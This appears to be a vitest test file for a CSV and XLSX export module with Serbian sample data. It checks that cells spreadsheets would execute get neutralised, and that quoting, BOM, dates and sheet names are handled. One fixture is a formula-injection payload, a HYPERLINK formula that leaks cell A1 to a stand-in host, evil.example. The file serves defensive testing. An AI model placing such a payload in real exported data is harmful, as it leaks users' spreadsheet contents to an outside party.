import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import readXlsxFile from 'read-excel-file/node'
import { describe, expect, it } from 'vitest'
import { maxCellLength, neutralise, type Table, toCsv, toXlsx } from './index.ts'

// Read back by libraries other than the writer: csv-parse for CSV; read-excel-file (its own
// unzip and XML parser) for XLSX values, and the raw sheet XML (fflate) for what a cell holds.

const joined = new Date('2026-03-01T09:30:15Z')
const table: Table = {
  title: 'Članovi',
  columns: [
    { header: 'Ime i prezime' },
    { header: 'Bodovi' },
    { header: 'Pridružen (UTC)' },
    { header: 'Dan', dates: 'day' },
    { header: 'Napomena' },
  ],
  rows: [
    ['Đorđe Šćekić-Žužić', 12.5, joined, new Date('2026-04-02T00:00:00Z'), 'Čačak, "centar"'],
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Klik")', -3, null, null, '+1'],
    ['-2+3', 0, joined, null, '@SUM(A1:A2)'],
    ['\tTab', 7, null, null, '\rCR'],
    ['Multi\nline', 1e6, null, null, null],
  ],
}

const dangerous = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
  '+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\tTab',
  '\rCR',
]

function sheetXml(xlsx: Buffer): string {
  const files = unzipSync(new Uint8Array(xlsx))
  const sheet = Object.keys(files).find((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))
  return strFromU8(files[sheet!]!)
}

describe('neutralise', () => {
  it('prefixes text that a spreadsheet would run, and leaves everything else', () => {
    for (const text of dangerous) expect(neutralise(text)).toBe(`'${text}`)
    for (const text of ['Ana', '', ' =1', "'=1", 'a=b', '1-2', 'Šid', '２'])
      expect(neutralise(text)).toBe(text)
  })
})

describe('CSV', () => {
  it('is UTF-8 with a BOM and CRLF line ends, and reads back as written', () => {
    const bytes = toCsv(table)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = bytes.toString('utf8')
    expect(text.endsWith('\r\n')).toBe(true)
    expect(text.replace(/"[^"]*"/g, '').split('\r\n')).toHaveLength(table.rows.length + 2)

    const rows = parse(text, { bom: true, relax_column_count: false }) as string[][]
    expect(rows[0]).toEqual(['Ime i prezime', 'Bodovi', 'Pridružen (UTC)', 'Dan', 'Napomena'])
    expect(rows[1]).toEqual([
      'Đorđe Šćekić-Žužić',
      '12.5',
      '2026-03-01 09:30:15',
      '2026-04-02',
      'Čačak, "centar"',
    ])
    expect(rows[5]).toEqual(['Multi\nline', '1000000', '', '', ''])
  })

  it('neutralises every text cell a spreadsheet would run; numbers stay numbers', () => {
    const rows = parse(toCsv(table).toString('utf8'), { bom: true }) as string[][]
    const cells = rows.slice(1).flatMap((row) => [row[0]!, row[4]!])
    for (const text of dangerous) expect(cells).toContain(`'${text}`)
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(rows.map((row) => row[1])).toEqual(['Bodovi', '12.5', '-3', '0', '7', '1000000'])
  })

  it('quotes only what needs quoting, per RFC 4180', () => {
    const text = toCsv({
      title: 't',
      columns: [{ header: 'a' }, { header: 'b' }],
      rows: [
        ['plain', 'with,comma'],
        ['with "quote"', 'line\r\nbreak'],
      ],
    }).toString('utf8')
    expect(text).toBe('\uFEFFa,b\r\nplain,"with,comma"\r\n"with ""quote""","line\r\nbreak"\r\n')
  })

  it('refuses a row of the wrong width and a number that is not finite', () => {
    const columns = [{ header: 'a' }, { header: 'b' }]
    expect(() => toCsv({ title: 't', columns, rows: [['only one']] })).toThrow(/row 1/)
    expect(() => toCsv({ title: 't', columns, rows: [['x', Number.NaN]] })).toThrow(/finite/)
  })
})

describe('XLSX', () => {
  it('reads back with Serbian letters, numbers as numbers and dates as dates', async () => {
    const xlsx = await toXlsx(table)
    const [sheet] = await readXlsxFile(xlsx)
    expect(sheet!.sheet).toBe('Članovi')
    const rows = sheet!.data
    expect(rows[0]).toEqual(['Ime i prezime', 'Bodovi', 'Pridružen (UTC)', 'Dan', 'Napomena'])
    expect(rows[1]).toEqual([
      'Đorđe Šćekić-Žužić',
      12.5,
      joined,
      new Date('2026-04-02T00:00:00Z'),
      'Čačak, "centar"',
    ])
    expect(rows[2]![1]).toBe(-3)
    expect(rows[5]).toEqual(['Multi\nline', 1e6, null, null, null])
  })

  it('holds no formula: dangerous text is a plain string, prefixed as in the CSV', async () => {
    const xlsx = await toXlsx(table)
    const xml = sheetXml(xlsx)
    expect(xml).toContain('<sheetData>')
    expect(xml).not.toMatch(/<f[\s>/]/)
    const [sheet] = await readXlsxFile(xlsx)
    const cells = sheet!.data.slice(1).flatMap((row) => [row[0], row[4]])
    for (const text of dangerous) expect(cells).toContain(`'${text}`)
    for (const cell of cells) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('keeps the file valid: characters XML cannot carry are replaced, long text is cut', async () => {
    const xlsx = await toXlsx({
      title: 'Bad/name:[sheet]?*\\ that is far too long for a sheet',
      columns: [{ header: 'a' }],
      rows: [['bell\u0007 and lone \uD800 surrogate'], ['x'.repeat(maxCellLength + 10)]],
    })
    const [sheet] = await readXlsxFile(xlsx)
    expect(sheet!.sheet).toBe('Bad-name--sheet---- that is far')
    expect(sheet!.data[1]).toEqual(['bell\uFFFD and lone \uFFFD surrogate'])
    expect((sheet!.data[2]![0] as string).length).toBe(maxCellLength)
  })
})
